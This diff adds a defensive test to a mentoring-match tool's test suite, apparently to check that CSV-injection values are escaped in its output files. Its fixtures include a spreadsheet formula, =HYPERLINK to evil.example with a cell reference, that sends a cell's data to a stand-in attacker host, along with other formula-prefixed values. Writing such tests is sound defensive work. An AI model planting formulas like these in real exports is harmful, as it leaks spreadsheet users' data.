@@ -157,3 +157,25 @@ def test_sponsorship_from_a_file_reports_fairness(tmp_path, capsys):
     # Men aspire to the sponsor's domain; women must still have floor((0.5 - 0.05) x 4) = 1 seat.
     assert "Woman: 1 matched, minimum 1" in summary
     assert len(read(tmp_path / "p.csv")) == 4
+
+
+def test_ids_and_reasons_that_look_like_formulas_are_neutralised(tmp_path):
+    # Ids come from the uploaded file: a spreadsheet opening the output must not run them.
+    people = [
+        '"=HYPERLINK(""http://evil.example/?""&A1)",,mentee,8,Exec,London,,,AI:0,,',
+        "@SUM(1),,mentor,2,Eng,Paris,,AI:4,,,",
+        "-2+3,,mentor,2,Ops,Paris,,AI:4,,,",
+        "+tab,,mentee,8,Ops,Rome,,,Cooking:0,,",
+    ]
+    outcome = match_spreadsheet(
+        write(tmp_path / "people.csv", people), kind="reverse-mentoring", out=tmp_path / "p.csv"
+    )
+    pairs = read(outcome.pairs_path)
+    unmatched = read(outcome.unmatched_path)
+    written = [row["mentor_id"] for row in pairs] + [row["mentee_id"] for row in pairs]
+    written += [row["employee_id"] for row in unmatched]
+    assert sorted(written) == sorted(['\'=HYPERLINK("http://evil.example/?"&A1)', "'@SUM(1)", "'-2+3", "'+tab"])
+    for row in pairs + unmatched:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values() if cell)
+    # Scores stay numbers.
+    assert pairs and all(isinstance(float(row["score"]), float) for row in pairs)
